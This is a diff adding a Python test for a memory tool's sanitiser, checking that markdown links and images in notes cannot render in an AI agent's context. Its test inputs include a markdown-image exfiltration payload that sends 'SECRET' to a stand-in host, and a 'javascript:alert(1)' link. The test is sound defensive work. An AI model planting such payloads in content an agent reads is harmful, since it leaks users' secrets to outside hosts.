@@ -293,3 +293,15 @@ def test_a_path_or_an_mcp_string_cannot_forge_recalls_fields():
 
 
 DOUBLE_QUOTE_LIKE_ALL = "\u201c\u201d\uff02\u201e\u201f"
+
+
+def test_no_markdown_link_or_image_renders_from_what_a_note_wrote():
+    """A client that renders the agent's context as markdown would fetch ``![x](https://...)``: in a
+    field it reads ``] (``; a path keeps its characters (the agent must open it), shell-quoted."""
+    from recall.privacy.safetext import agent_field, agent_path
+
+    line = headline(_hit(name="Exfil ![x](https://e.x/p?q=SECRET)", description="click [here](javascript:alert(1))"))
+    assert "](" not in line and "! [x] (https://e.x" not in line and "![x] (https://e.x/p?q=SECRET)" in line, line
+    assert agent_field("[a](b) and [c](d)") == "[a] (b) and [c] (d)"
+    assert agent_path("/n/a](b).md") == "'/n/a](b).md'"
+    assert agent_json({"name": "![i](u)", "path": "/n/![i](u).md"}) == {"name": "![i] (u)", "path": "'/n/![i](u).md'"}
